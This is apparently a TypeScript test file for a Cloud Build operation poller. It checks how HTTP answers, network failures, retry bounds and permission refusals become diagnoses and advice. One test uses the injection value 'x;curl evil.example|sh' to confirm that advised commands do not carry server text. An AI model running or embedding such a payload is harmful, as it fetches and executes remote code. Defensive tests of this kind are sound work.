import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { apiAdvice } from "../../src/base/api-advice.ts";
import { type Poll, pollOf } from "../../src/cloudbuild/poll.ts";
import type { Target } from "../../src/cloudbuild/target.ts";
import { type Answer, type Lost, refusalOf } from "../../src/http/answer.ts";
import * as patience from "../../src/http/patience.ts";
import { legacyName, operationJson } from "../harness/support.ts";

const nowMs = Date.UTC(2026, 10, 2, 9, 14, 5);
const answer = (status: number, text: string, headers: Answer["headers"] = {}): Answer => ({
  kind: "answer",
  status,
  headers,
  text,
});
const info = (reason: string, metadata: object = {}) => ({
  "@type": "type.googleapis.com/google.rpc.ErrorInfo",
  reason,
  domain: "googleapis.com",
  metadata,
});
const google = (status: number, name: string, message = "m", ...details: unknown[]) =>
  answer(status, JSON.stringify({ error: { code: status, message, status: name, details } }));
const target = (name = legacyName, endpoint = "https://cloudbuild.googleapis.com"): Target => ({
  endpoint,
  version: "v1",
  name,
});
const poll = (result: Answer | Lost, of = target(), caller?: string): Poll => pollOf(result, of, nowMs, caller);
const patienceOf = (one: Poll) => (one.kind === "passing" ? one.patience : one.kind);
const mendOf = (one: Poll) => (one.kind === "passing" ? one.advice?.mend : undefined);
const whyOf = (one: Poll) => ("why" in one ? one.why : "");

/** The page of Google's front end for an address that it does not serve. */
const googlePage = (status: number, name: string) => `<!DOCTYPE html>
<html lang=en>
  <meta charset=utf-8>
  <title>Error ${status} (${name})!!1</title>
  <style>
    *{margin:0;padding:0}html,code{font:15px/22px arial,sans-serif}
  </style>
  <a href=//www.google.com/><span id=logo aria-label=Google></span></a>
  <p><b>${status}.</b> <ins>That’s an error.</ins>
  <p>The requested URL <code>/v9/x</code> was not found on this server.  <ins>That’s all we know.</ins>
`;

describe("what an answer means", () => {
  const html = "<html><body>Bad gateway</body></html>";
  const page =
    "A proxy, a firewall or a login page of the network answers instead. Ask its administrator to allow cloudbuild.googleapis.com";
  const front = (status: number, name: string) => answer(status, googlePage(status, name));
  const rows: readonly (readonly [what: string, result: Answer, patience: unknown, mend?: string])[] = [
    ["200 with an operation", answer(200, JSON.stringify(operationJson())), "operation"],
    ["200 with nonsense", answer(200, "x"), patience.passing],
    [
      "200 with a done that is no boolean",
      answer(200, JSON.stringify(operationJson({}, { done: "true" }))),
      patience.passing,
    ],
    ["200 about another operation", answer(200, '{"name":"operations/other"}'), patience.wrongOperation],
    ["201 with an operation", answer(201, JSON.stringify(operationJson())), patience.passing],
    ["204", answer(204, ""), patience.passing],
    ["302", answer(302, ""), patience.passing],
    ["302 with a page", answer(302, html), patience.passing, page],
    ["400 of Google's", google(400, "INVALID_ARGUMENT"), patience.clientError],
    ["400 of somebody else", answer(400, html), patience.passing, page],
    ["401 of Google's", google(401, "UNAUTHENTICATED"), patience.newTokenRefused],
    [
      "401 of a disabled account",
      google(401, "", "m", info("ACCOUNT_STATE_INVALID")),
      patience.newTokenRefused,
      apiAdvice.accountDisabled.mend,
    ],
    ["401 without a word", answer(401, ""), patience.newTokenRefused],
    ["401 of somebody else", answer(401, html), patience.passing, page],
    [
      "403 of Google's",
      google(403, "PERMISSION_DENIED", "The caller does not have permission"),
      patience.denied,
      apiAdvice.permission.mend,
    ],
    ["403 that says nothing", google(403, "PERMISSION_DENIED"), patience.denied],
    ["403 of somebody else", answer(403, html), patience.passing, page],
    ["404 of Google's", google(404, "NOT_FOUND"), patience.notFound, apiAdvice.notFound.mend],
    ["404 of somebody else", answer(404, html), patience.passing, page],
    ["404 of Google's front end", front(404, "Not Found"), patience.noSuchPath, apiAdvice.noSuchPath.mend],
    ["404 of a method", google(404, "NOT_FOUND", "Method not found."), patience.noSuchPath, apiAdvice.noSuchPath.mend],
    ["400 of Google's front end", front(400, "Bad Request"), patience.clientError],
    ["403 of Google's front end", front(403, "Forbidden"), patience.denied],
    ["502 of Google's front end", front(502, "Server Error"), patience.passing],
    ["429 of Google's front end", front(429, "Too Many Requests"), "quota"],
    ["405", google(405, ""), patience.clientError],
    ["407", answer(407, html), patience.untrusted, apiAdvice.proxy.mend],
    ["408", google(408, ""), patience.passing],
    ["409", google(409, "ABORTED"), patience.clientError],
    ["414", google(414, ""), patience.clientError],
    ["425", google(425, ""), patience.passing],
    ["429 of Google's", google(429, "RESOURCE_EXHAUSTED"), "quota"],
    ["429 of somebody else", answer(429, html), "quota"],
    ["499", google(499, "CANCELLED"), patience.passing],
    ["500", google(500, "INTERNAL"), patience.passing],
    ["501 of Google's", google(501, "UNIMPLEMENTED"), patience.clientError],
    ["501 of somebody else", answer(501, html), patience.passing, page],
    ["502", answer(502, html), patience.passing, page],
    ["503", google(503, "UNAVAILABLE"), patience.passing],
    ["504", google(504, "DEADLINE_EXCEEDED"), patience.passing],
    ["599", google(599, ""), patience.passing],
    ["403 for a minute's quota", google(403, "PERMISSION_DENIED", "m", info("RATE_LIMIT_EXCEEDED")), "quota"],
    ["403 that says so", google(403, "", "Quota exceeded for x and limit 'Get requests per minute' of y."), "quota"],
    ["400 that says so", google(400, "", "Quota exceeded for x per minute"), patience.clientError],
    ["403 for a day's quota", google(403, "", "Quota exceeded for x per day"), patience.denied],
    ["a reason named like a method", google(403, "", "permission", info("toString")), patience.denied],
    [
      "Compute Engine's operation",
      answer(200, '{"name":"x","operationType":"insert"}'),
      patience.otherKind,
      apiAdvice.otherKind.mend,
    ],
    ["a page with 200", answer(200, html), patience.passing, page],
  ];
  for (const [what, result, expected, mend] of rows) {
    test(`an answer of ${what} has its own patience and advice`, () => {
      assert.equal(patienceOf(poll(result)), expected);
      assert.equal(mendOf(poll(result)), mend);
    });
  }
});

describe("what no answer means", () => {
  const network =
    "Check the runner's network: does a firewall allow cloudbuild.googleapis.com, and does the way there need a proxy (HTTPS_PROXY)?";
  const rows: readonly (readonly [code: string, patience: patience.Patience, start: string, mend: string])[] = [
    ...["ECONNRESET", "EPIPE", "ETIMEDOUT", "ECONNREFUSED", "EHOSTUNREACH", "ENETUNREACH", "EAI_AGAIN"].map(
      (code) => [code, patience.passing, "", network] as const,
    ),
    ...["ERR_STREAM_PREMATURE_CLOSE", "HPE_INVALID_CONSTANT", "PROXY_502", "UNKNOWN"].map(
      (code) => [code, patience.passing, "", network] as const,
    ),
    ["ENOTFOUND", patience.unknownHost, "The host is not known (ENOTFOUND): ", apiAdvice.host.mend],
    ["PROXY_407", patience.untrusted, "The proxy requires a user name and password (407): ", apiAdvice.proxy.mend],
    ...["PROXY_400", "PROXY_403", "PROXY_404", "PROXY_429"].map(
      (code) => [code, patience.untrusted, "The proxy refused the connection: ", apiAdvice.proxyRefused.mend] as const,
    ),
    ...["CERT_HAS_EXPIRED", "DEPTH_ZERO_SELF_SIGNED_CERT", "SELF_SIGNED_CERT_IN_CHAIN", "EPROTO"].map(
      (code) => [code, patience.untrusted, "The TLS connection failed: ", apiAdvice.tls.mend] as const,
    ),
    ...["UNABLE_TO_VERIFY_LEAF_SIGNATURE", "ERR_TLS_CERT_ALTNAME_INVALID", "ERR_SSL_WRONG_VERSION_NUMBER"].map(
      (code) => [code, patience.untrusted, "The TLS connection failed: ", apiAdvice.tls.mend] as const,
    ),
  ];
  for (const [code, expected, start, mend] of rows) {
    test(`a request lost with ${code} has its own patience and advice`, () => {
      const why = `Cannot reach Cloud Build (it broke, ${code})`;
      const lost = poll({ kind: "lost", code, why });
      assert.equal(whyOf(lost), `${start}${why}`);
      assert.equal(patienceOf(lost), expected);
      assert.equal(mendOf(lost), mend);
    });
  }
  test("a limit of the action's own is told as it is, without advice", () => {
    for (const why of ["Cloud Build gave no answer within 30s", "Cloud Build sent a body of more than 16 MiB"]) {
      assert.deepEqual(poll({ kind: "lost", code: "TIMEOUT", why }), {
        kind: "passing",
        why,
        patience: patience.passing,
        advice: undefined,
      });
    }
  });
  test("the service is called by its host where it is not Cloud Build", () => {
    const run = target("projects/pp/locations/l/operations/x", "https://run.googleapis.com");
    const lost = poll({ kind: "lost", code: "EPIPE", why: "Cannot reach run.googleapis.com (EPIPE)" }, run);
    assert.equal("advice" in lost && lost.advice?.title, "Cannot reach run.googleapis.com");
    assert.match(whyOf(poll(google(500, "INTERNAL"), run)), /^run\.googleapis\.com answered 500 INTERNAL: m$/);
    assert.match(whyOf(poll(google(429, "X"), run)), /^run\.googleapis\.com's request quota is used up: 429 X: m$/);
    const emulator = target("operations/x", "http://127.0.0.1:8085");
    assert.match(whyOf(poll(google(500, "INTERNAL"), emulator)), /^127\.0\.0\.1:8085 answered 500/);
    assert.match(whyOf(poll(google(500, "INTERNAL"))), /^Cloud Build answered 500/);
  });
});

describe("a server's bound", () => {
  const retry = (retryDelay: unknown) => ({ "@type": "type.googleapis.com/google.rpc.RetryInfo", retryDelay });
  const bound = (result: Answer) => refusalOf(result, nowMs).atLeastMs;
  const delays: readonly (readonly [unknown, number | undefined])[] = [
    ["7.5s", 7500],
    ["0s", 0],
    ["1e12s", undefined],
    ["abc", undefined],
    ["-1s", undefined],
    ["999999999999s", 300_000],
    [`${"9".repeat(400)}s`, 300_000],
    [`${"9".repeat(400)}.5s`, 300_000],
    [7, undefined],
    [undefined, undefined],
  ];
  for (const [delay, ms] of delays) {
    test(`a RetryInfo of ${JSON.stringify(delay)} is ${ms === undefined ? "no bound" : `a bound of ${ms} ms`}`, () => {
      for (const status of [429, 503]) {
        const result = google(status, "X", "m", retry(delay));
        assert.equal(bound(result), ms);
        const passed = poll(result);
        assert.equal("atLeastMs" in passed ? passed.atLeastMs : undefined, ms);
      }
    });
  }
  test("Retry-After is a bound in seconds or as a date, and the longer of it and RetryInfo counts", () => {
    const withHeader = (value: string | string[], delay?: string) =>
      bound({ ...google(503, "X", "m", ...(delay ? [retry(delay)] : [])), headers: { "retry-after": value } });
    assert.equal(withHeader("3"), 3000);
    assert.equal(withHeader(["4", "9"]), 4000);
    assert.equal(withHeader("Mon, 02 Nov 2026 09:15:05 GMT"), 60_000);
    assert.equal(withHeader("3", "7s"), 7000);
    assert.equal(withHeader("9", "7s"), 9000);
    assert.equal(withHeader("9".repeat(400)), 300_000);
    assert.equal(withHeader("Fri, 31 Dec 9999 23:59:59 GMT"), 300_000);
    assert.equal(withHeader("-5"), undefined);
    assert.equal(withHeader("soon"), undefined);
    assert.equal(withHeader([]), undefined);
  });
});

describe("what is said of a refusal", () => {
  const permission = (name: string, resource?: string) =>
    info("IAM_PERMISSION_DENIED", { permission: name, ...(resource === undefined ? {} : { resource }) });
  const denied = (...details: unknown[]) =>
    google(403, "PERMISSION_DENIED", "The caller does not have permission", ...details);

  test("a refusal names the permission that is missing, on what, and for whom", () => {
    const one = poll(denied(permission("cloudbuild.builds.get", "projects/pp")), target(), "ci@pp.example");
    assert.equal(
      whyOf(one),
      "Permission denied: 403 PERMISSION_DENIED for ci@pp.example: The caller does not have permission (IAM_PERMISSION_DENIED, permission cloudbuild.builds.get, resource projects/pp)",
    );
    assert.match(mendOf(one) ?? "", /roles\/cloudbuild\.builds\.viewer.*or the operation does not exist/);
    assert.match(
      whyOf(poll(google(401, "UNAUTHENTICATED"), target(), "ci@x")),
      /answered 401 UNAUTHENTICATED for ci@x: m$/,
    );
    assert.match(whyOf(poll(google(500, "INTERNAL"), target(), "ci@x")), /answered 500 INTERNAL: m$/);
  });

  const others: readonly (readonly [what: string, result: Answer, mend: RegExp])[] = [
    [
      "of another service on a named resource",
      denied(permission("run.operations.get", "projects/pp/x")),
      /^Grant a role that holds run\.operations\.get on projects\/pp\/x, /,
    ],
    [
      "of another service",
      denied(permission("container.operations.get")),
      /^Grant a role that holds container\.operations\.get on the resource, /,
    ],
    [
      "of Cloud Build for something else than builds",
      denied(permission("cloudbuild.workerpools.get")),
      /^Grant a role that holds cloudbuild\.workerpools\.get /,
    ],
    [
      "that the message names",
      google(
        403,
        "PERMISSION_DENIED",
        "Permission 'dataproc.operations.get' denied on resource '//x' (or it may not exist).",
      ),
      /^Grant a role that holds dataproc\.operations\.get on the resource, /,
    ],
  ];
  for (const [what, result, mend] of others) {
    test(`where a permission ${what} is missing, no role of Cloud Build's is advised`, () => {
      assert.match(mendOf(poll(result)) ?? "", mend);
      assert.doesNotMatch(mendOf(poll(result)) ?? "", /roles\/cloudbuild/);
    });
  }

  test("a missing permission for builds is known where only the message names it", () => {
    const message = "Permission 'cloudbuild.builds.get' denied on resource '//cloudbuild.googleapis.com/x'";
    assert.equal(mendOf(poll(google(403, "PERMISSION_DENIED", message))), apiAdvice.permission.mend);
  });

  test("a 403 of another service that names no permission has no advice", () => {
    const run = target("projects/pp/locations/l/operations/x", "https://run.googleapis.com");
    assert.equal(mendOf(poll(denied(), run)), undefined);
    assert.match(whyOf(poll(denied(), run)), /^run\.googleapis\.com answered 403 PERMISSION_DENIED: The caller/);
  });

  test("where no advice is known to fit, Google's own words stand alone", () => {
    const message = "Request is prohibited by organization's policy.";
    const one = poll(google(403, "PERMISSION_DENIED", message));
    assert.equal(whyOf(one), `Cloud Build answered 403 PERMISSION_DENIED: ${message}`);
    assert.equal(mendOf(one), undefined);
  });

  const about = { service: "run.googleapis.com", consumer: "projects/77" };
  const reasons: readonly (readonly [reason: string, patience: patience.Patience, mend?: RegExp])[] = [
    ["SERVICE_DISABLED", patience.denied, /^Enable it: gcloud services enable run\.googleapis\.com --project=77$/],
    ["BILLING_DISABLED", patience.blocked, /gcloud billing projects link 77 /],
    ["CONSUMER_INVALID", patience.blocked, /gcloud projects undelete 77$/],
    ["CONSUMER_SUSPENDED", patience.blocked, /appeal/],
    ["SECURITY_POLICY_VIOLATED", patience.blocked, /VPC Service Controls/],
    ["ORG_RESTRICTION_VIOLATION", patience.blocked, /X-Goog-Allowed-Resources/],
    ["ORG_RESTRICTION_VIOLATED", patience.blocked, /X-Goog-Allowed-Resources/],
    [
      "USER_PROJECT_DENIED",
      patience.denied,
      /serviceUsageConsumer on the quota project 77, or unset GOOGLE_CLOUD_QUOTA_PROJECT/,
    ],
    ["ACCESS_TOKEN_SCOPE_INSUFFICIENT", patience.denied, /auth\/cloud-platform$/],
    ["LOCATION_POLICY_VIOLATED", patience.blocked],
    ["USER_BLOCKED_BY_ADMIN", patience.blocked],
    ["RESOURCE_PROJECT_INVALID", patience.blocked],
  ];
  for (const [reason, expected, mend] of reasons) {
    test(`advice and patience go by the reason: ${reason}, whatever the status`, () => {
      for (const [status, name] of [
        [403, "PERMISSION_DENIED"],
        [400, "FAILED_PRECONDITION"],
        [404, "NOT_FOUND"],
      ] as const) {
        const one = poll(google(status, name, "no permission", info(reason, about)));
        assert.equal(patienceOf(one), expected);
        assert.match(mendOf(one) ?? "none", mend ?? /^none$/);
        assert.doesNotMatch(mendOf(one) ?? "", /roles\/cloudbuild/);
        assert.match(
          whyOf(one),
          new RegExp(`${status} ${name}: no permission .${reason}, service run.googleapis.com, `),
        );
      }
    });
  }

  test("a refusal by VPC Service Controls is known without a reason", () => {
    const violations = [{ type: "VPC_SERVICE_CONTROLS", description: "9a8b7c" }];
    const result = denied({ "@type": "type.googleapis.com/google.rpc.PreconditionFailure", violations });
    assert.equal(mendOf(poll(result)), apiAdvice.perimeter.mend);
    assert.equal(patienceOf(poll(result)), patience.blocked);
    assert.match(whyOf(poll(result)), /VPC_SERVICE_CONTROLS: 9a8b7c/);
  });

  test("a command that is advised has no words of the answer but names of services and projects", () => {
    const bad = { service: "x;curl evil.example|sh", consumer: "projects/$(x)" };
    assert.equal(mendOf(poll(denied(info("SERVICE_DISABLED", bad)))), apiAdvice.apiDisabled.mend);
    assert.equal(mendOf(poll(denied(info("SERVICE_DISABLED", { consumer: "folders/7" })))), apiAdvice.apiDisabled.mend);
  });

  test("an error without message, status and details is told by its number", () => {
    assert.equal(whyOf(poll(answer(503, '{"error":{"code":503}}'))), "Cloud Build answered 503");
    const odd = '{"error":{"code":503,"message":"m","details":["x",null]}}';
    assert.equal(whyOf(poll(answer(503, odd))), "Cloud Build answered 503: m");
  });
  test("a 429 is told as a quota only where it is Google's", () => {
    assert.equal(whyOf(poll(google(429, "X"))), "Cloud Build's request quota is used up: 429 X: m");
    assert.match(
      whyOf(poll(answer(429, googlePage(429, "Too Many Requests")))),
      /quota is used up: HTTP 429 from Google's/,
    );
    assert.equal(whyOf(poll(answer(429, "slow down"))), "HTTP 429, not from Google: slow down");
  });
  test("an error in an array, as streaming methods send it, is read", () => {
    assert.equal(whyOf(poll(answer(503, '[{"error":{"code":503,"message":"m"}}]'))), "Cloud Build answered 503: m");
  });
  test("an error page of Google's is told by what it says, without its styles", () => {
    const one = poll(answer(404, googlePage(404, "Not Found")));
    assert.equal(
      whyOf(one),
      "Google serves nothing at this address (404): HTTP 404 from Google's front end: Error 404 (Not Found)!!1 404. That’s an error. The requested URL /v9/x was not found on this server. That’s all we know.",
    );
  });
  test("an answer that is not Google's is told with its status, its sender and its text in one line", () => {
    const page = `<html><head><style type=x>a{}</style><script>b()</script><!-- c --></head>\n<h1>Bad\r::error::gateway</h1>##[error]${"x".repeat(200_000)}`;
    const result = poll(answer(502, page, { server: "nginx", via: ["1.1 proxy", "x"] }));
    const start = "HTTP 502, not from Google (nginx, 1.1 proxy): Bad ::error::gateway ##\\[error]xxx";
    assert.ok(whyOf(result).startsWith(start), whyOf(result));
    assert.ok(whyOf(result).length <= 300);
    assert.equal(whyOf(poll(answer(502, ""))), "HTTP 502, not from Google");
    assert.equal(whyOf(poll(answer(502, "<style>a{}"))), "HTTP 502, not from Google");
    assert.equal(whyOf(poll(answer(502, `${"<".repeat(100_000)}`))).length, 227);
  });
  test("of an error in JSON that is not Google's only its message is told", () => {
    const start = "HTTP 502, not from Google";
    const said = (body: object) => whyOf(poll(answer(502, JSON.stringify(body))));
    assert.equal(said({ message: "no route", token: "s3cr3t" }), `${start}: no route`);
    assert.equal(said({ error: "denied", error_description: "by the proxy", id: 7 }), `${start}: denied: by the proxy`);
    assert.equal(said({ request: { authorization: "s3cr3t" }, message: 7 }), start);
    assert.equal(said(["s3cr3t"]), start);
  });
  for (const text of ['{"error":"x"}', '{"error":{"code":"403"}}', '{"error":[]}', "{}", "[1]", '"x"']) {
    test(`${text} is no error of Google's`, () => assert.equal(refusalOf(answer(404, text), nowMs).from, "elsewhere"));
  }
});

describe("nothing is quoted of a broken operation", () => {
  const secret = '{"metadata":{"build":{"substitutions":{"_PASSWORD":"do-not-print"}';
  for (const [status, text] of [
    [200, secret],
    [200, `\ufeff ${secret}`],
    [200, `x${secret}`],
    [200, `${secret.slice(0, -2)}"}}},"name":"operations/other"}`],
    [200, `{"name":"${legacyName}","done":1,${secret.slice(1)}}}}}`],
    [203, `${secret}}}}`],
    [206, secret],
    [302, secret],
  ] as const) {
    test(`nothing is quoted of a broken operation: a ${status} with ${text.slice(0, 20)}`, () =>
      assert.doesNotMatch(whyOf(poll(answer(status, text))), /print|PASSWORD/));
  }
  test("a page that came instead of an operation is quoted", () => {
    const portal = whyOf(poll(answer(200, "\n<html><title>Sign in</title></html>", { server: "portal" })));
    assert.equal(portal, "The answer is not JSON: HTTP 200, not from Google (portal): Sign in");
  });
});
